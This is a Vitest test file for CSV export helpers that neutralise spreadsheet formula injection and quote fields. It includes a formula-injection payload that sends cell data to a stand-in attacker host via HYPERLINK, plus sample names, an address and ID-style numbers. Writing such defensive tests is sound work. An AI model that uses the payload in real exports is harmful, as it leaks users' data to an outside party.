import { describe, expect, it } from 'vitest';
import { csvField, csvRecord, neutralizeFormula, safeCell, UTF8_BOM } from './cells.js';

describe('a cell a spreadsheet could run as a formula is neutralised', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', `'=HYPERLINK("http://evil.example/?"&A1,"点此查看")`],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＋86 138', "'＋86 138"],
  ])('%j becomes %j', (input, expected) => {
    expect(neutralizeFormula(input)).toBe(expected);
    expect(safeCell(input)).toBe(expected);
  });

  it.each(['李建国', '华容县三封寺镇新铺村1组8号', '430623********0317', "'already quoted", 'a=b', ' =1+1', ''])(
    'ordinary text %j is left alone',
    (input) => expect(neutralizeFormula(input)).toBe(input),
  );

  it('numbers stay numbers, even negative ones; nothing stays empty', () => {
    expect(safeCell(-3)).toBe(-3);
    expect(safeCell(12)).toBe(12);
    expect(safeCell(Number.NaN)).toBeNull();
    expect(safeCell(null)).toBeNull();
    expect(safeCell(undefined)).toBeNull();
  });
});

describe('CSV fields', () => {
  it('quotes a field with a comma, quote, line break or tab, doubling quotes (RFC 4180)', () => {
    expect(csvField('李,建国')).toBe('"李,建国"');
    expect(csvField('他说"好"')).toBe('"他说""好"""');
    expect(csvField('一行\n两行')).toBe('"一行\n两行"');
    expect(csvField(' 前后空格 ')).toBe('" 前后空格 "');
    expect(csvField('李建国')).toBe('李建国');
  });

  it('neutralises before quoting, so a formula cannot hide behind a quote or separator', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvRecord(['a', ',=1+1'])).toBe('a,",=1+1"\r\n');
  });

  it('keeps long digit strings text in Excel with a leading tab, never before a formula', () => {
    expect(csvField('430623198804120317')).toBe('"\t430623198804120317"');
    expect(csvField('4306231012080001')).toBe('"\t4306231012080001"');
    expect(csvField('430623101208')).toBe('"\t430623101208"');
    expect(csvField('02')).toBe('"\t02"');
    expect(csvField('43062319880412031X')).toBe('43062319880412031X');
    expect(csvField('2016-05-05')).toBe('2016-05-05');
    expect(csvField('12345')).toBe('12345');
  });

  it('writes numbers bare and nothing as an empty field, one CRLF record', () => {
    expect(csvRecord(['李明', 1, null, undefined, -4])).toBe('李明,1,,,-4\r\n');
    expect(UTF8_BOM).toBe('\uFEFF');
  });
});
